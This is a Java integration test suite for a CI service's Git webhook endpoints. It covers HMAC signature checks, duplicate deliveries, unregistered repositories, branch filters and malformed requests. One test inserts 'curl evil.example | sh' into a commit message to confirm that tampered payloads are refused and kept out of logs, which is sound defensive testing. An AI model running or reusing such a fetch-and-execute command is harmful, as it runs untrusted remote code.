package dev.kiln.api.hooks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kiln.api.repos.RegisteredRepo;
import dev.kiln.api.repos.RepoStore;
import dev.kiln.api.runs.RunFilter;
import dev.kiln.api.runs.RunRepository;
import dev.kiln.api.support.RawHttp;
import dev.kiln.api.support.StrictApi;
import dev.kiln.workflows.RunPriority;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Forge deliveries over HTTP, against PostgreSQL, with Temporal unreachable: everything a delivery
 * is refused for, its duplicate, and what a delivery whose runs cannot start leaves behind. Runs
 * that start are the end-to-end test's ({@code WebhookEndToEndIT}).
 */
@ExtendWith(OutputCaptureExtension.class)
class HooksIT extends StrictApi {

  static final JsonMapper JSON = JsonMapper.builder().build();
  static final String SHA = "6113728f27ae82c7b1a177c8d03f9e96e0adf246";

  @Autowired RepoStore repos;
  @Autowired RunRepository runs;
  @Autowired JdbcClient jdbc;

  RawHttp http;
  RegisteredRepo repo;

  @BeforeEach
  void registerRepository() {
    http = new RawHttp(port);
    repo =
        repos.insert(
            new RepoStore.Settings(
                "https://git.example.com/team/hooks-" + System.nanoTime() + ".git",
                List.of("main", "release/*"),
                List.of("x86_64"),
                RunPriority.NORMAL,
                null,
                List.of(),
                List.of()),
            "s3cret-" + UUID.randomUUID(),
            "test");
  }

  private String push(String branch) {
    return Payloads.of("github-push", Map.of("repo", repo.url(), "branch", branch, "sha", SHA));
  }

  private RawHttp.Response github(String event, String delivery, String body, String signature) {
    List<String> headers = new ArrayList<>(List.of("X-GitHub-Event", event));
    if (delivery != null) {
      headers.addAll(List.of("X-GitHub-Delivery", delivery));
    }
    if (signature != null) {
      headers.addAll(List.of("X-Hub-Signature-256", signature));
    }
    return http.send("POST", "/hooks/github", body, headers.toArray(String[]::new));
  }

  private String signed(String body) {
    return "sha256="
        + Signatures.hmacSha256Hex(repo.webhookSecret(), body.getBytes(StandardCharsets.UTF_8));
  }

  private static JsonNode json(RawHttp.Response response) {
    return JSON.readTree(response.body());
  }

  private int runsOfRepo() {
    return runs.list(new RunFilter(repo.url(), null, null, null, null, null, null), 100).size();
  }

  @Test
  void aTamperedBodyIs401AndTheLogLineCarriesNoneOfIt(CapturedOutput output) {
    String body = push("main");
    String signature = signed(body);
    String tampered = body.replace("Update README.md", "Update README.md; curl evil.example | sh");

    RawHttp.Response refused = github("push", UUID.randomUUID().toString(), tampered, signature);

    assertThat(refused.status()).as(refused.body()).isEqualTo(401);
    assertThat(refused.header("Content-Type")).startsWith("application/problem+json");
    assertThat(json(refused).path("detail").asString())
        .isEqualTo(
            "X-Hub-Signature-256 does not match the webhook secret of repository " + repo.id());
    assertThat(output.getAll()).contains("does not match its webhook secret; refused");
    assertThat(output.getAll()).doesNotContain("curl evil.example");
    assertThat(runsOfRepo()).isZero();
  }

  @Test
  void aMissingSignatureOrAnotherSecretsSignatureIs401() {
    String body = push("main");
    assertThat(github("push", UUID.randomUUID().toString(), body, null).status()).isEqualTo(401);
    String other =
        "sha256="
            + Signatures.hmacSha256Hex("not the secret", body.getBytes(StandardCharsets.UTF_8));
    assertThat(github("push", UUID.randomUUID().toString(), body, other).status()).isEqualTo(401);
    // a token is no proof: hooks are not for API callers
    assertThat(
            http.send(
                    "POST",
                    "/hooks/gitlab",
                    Payloads.of(
                        "gitlab-push", Map.of("repo", repo.url(), "branch", "main", "sha", SHA)),
                    "X-Gitlab-Event",
                    "Push Hook",
                    "X-Gitlab-Event-UUID",
                    UUID.randomUUID().toString(),
                    "X-Gitlab-Token",
                    "wrong",
                    "Authorization",
                    "Bearer kiln_" + "0".repeat(43))
                .status())
        .isEqualTo(401);
    assertThat(runsOfRepo()).isZero();
  }

  @Test
  void anEventForAnUnregisteredRepositoryIs404() {
    String body =
        Payloads.of(
            "github-push",
            Map.of("repo", "https://git.example.com/nobody/app.git", "branch", "main", "sha", SHA));
    RawHttp.Response refused = github("push", UUID.randomUUID().toString(), body, signed(body));
    assertThat(refused.status()).isEqualTo(404);
    assertThat(json(refused).path("detail").asString())
        .isEqualTo(
            "repository https://git.example.com/nobody/app.git is not registered; register it"
                + " with POST /repos");
  }

  @Test
  void anEventKilnDoesNotActOnIs202WithANoteAndItsRepeatIs200StartingNothing() {
    String body = Payloads.of("github-ping", Map.of("repo", repo.url()));
    String delivery = UUID.randomUUID().toString();

    RawHttp.Response first = github("ping", delivery, body, signed(body));
    assertThat(first.status()).as(first.body()).isEqualTo(202);
    assertThat(json(first).path("note").asString())
        .isEqualTo("event \"ping\" is not one Kiln acts on");
    assertThat(json(first).path("duplicate").asBoolean()).isFalse();

    RawHttp.Response again = github("ping", delivery, body, signed(body));
    assertThat(again.status()).isEqualTo(200);
    assertThat(json(again).path("duplicate").asBoolean()).isTrue();
    assertThat(json(again).path("note").asString())
        .isEqualTo("delivery " + delivery + " was received before; nothing was started again");
    assertThat(
            jdbc.sql(
                    "SELECT count(*) FROM webhook_deliveries WHERE forge = 'github'"
                        + " AND delivery_id = :id")
                .param("id", delivery)
                .query(Long.class)
                .single())
        .as("the delivery is remembered in PostgreSQL, across restarts and replicas")
        .isEqualTo(1);
  }

  @Test
  void aPushToABranchTheRepositoryDoesNotBuildIs202WithANote() {
    String body = push("feature/x");
    RawHttp.Response answer = github("push", UUID.randomUUID().toString(), body, signed(body));
    assertThat(answer.status()).isEqualTo(202);
    assertThat(json(answer).path("note").asString())
        .isEqualTo("branch feature/x is not among the repository's branches [main, release/*]");
    assertThat(json(answer).path("runs")).isEmpty();
    assertThat(runsOfRepo()).isZero();
  }

  @Test
  void aDeliveryWhoseRunCannotStartIsForgottenSoThatItsRedeliveryTriesAgain() {
    String body = push("main");
    String delivery = UUID.randomUUID().toString();

    RawHttp.Response first = github("push", delivery, body, signed(body));
    assertThat(first.status()).as(first.body()).isEqualTo(503);
    RawHttp.Response redelivered = github("push", delivery, body, signed(body));
    assertThat(redelivered.status()).as("not taken for a duplicate").isEqualTo(503);

    assertThat(runsOfRepo()).isEqualTo(2);
    assertThat(runs.list(new RunFilter(repo.url(), null, null, null, null, null, null), 10))
        .allSatisfy(
            run -> {
              assertThat(run.ref()).isEqualTo(SHA);
              assertThat(run.branch()).isEqualTo("main");
              assertThat(run.lane()).isEqualTo(repo.url() + "#main@x86_64");
              assertThat(run.triggeredBy()).isEqualTo("hook:github");
            });
  }

  @Test
  void aDeliveryWithoutItsHeadersOrJsonIs400() {
    String body = push("main");
    RawHttp.Response noId = github("push", null, body, signed(body));
    assertThat(noId.status()).isEqualTo(400);
    assertThat(json(noId).path("detail").asString())
        .isEqualTo("header X-GitHub-Delivery is missing");
    RawHttp.Response notJson =
        github("push", UUID.randomUUID().toString(), "payload=%7B%7D", signed("payload=%7B%7D"));
    assertThat(notJson.status()).isEqualTo(400);
    assertThat(json(notJson).path("detail").asString())
        .isEqualTo("the body is not JSON; set the webhook's content type to application/json");
    RawHttp.Response noEvent =
        http.send("POST", "/hooks/gitea", body, "X-Gitea-Delivery", "1", "X-Gitea-Signature", "x");
    assertThat(json(noEvent).path("detail").asString())
        .isEqualTo("header X-Gitea-Event is missing");
  }

  @Test
  void giteaAndGitlabProveDeliveriesTheirOwnWay() {
    String gitea =
        Payloads.of("gitea-push", Map.of("repo", repo.url(), "branch", "feature/y", "sha", SHA));
    String giteaSignature =
        Signatures.hmacSha256Hex(repo.webhookSecret(), gitea.getBytes(StandardCharsets.UTF_8));
    RawHttp.Response fromGitea =
        http.send(
            "POST",
            "/hooks/gitea",
            gitea,
            "X-Gitea-Event",
            "push",
            "X-Gitea-Delivery",
            UUID.randomUUID().toString(),
            "X-Gitea-Signature",
            giteaSignature);
    assertThat(fromGitea.status()).as(fromGitea.body()).isEqualTo(202);

    String gitlab =
        Payloads.of("gitlab-push", Map.of("repo", repo.url(), "branch", "feature/y", "sha", SHA));
    RawHttp.Response fromGitlab =
        http.send(
            "POST",
            "/hooks/gitlab",
            gitlab,
            "X-Gitlab-Event",
            "Push Hook",
            "X-Gitlab-Event-UUID",
            UUID.randomUUID().toString(),
            "X-Gitlab-Token",
            repo.webhookSecret());
    assertThat(fromGitlab.status()).as(fromGitlab.body()).isEqualTo(202);
    assertThat(json(fromGitlab).path("note").asString()).contains("feature/y is not among");
  }
}
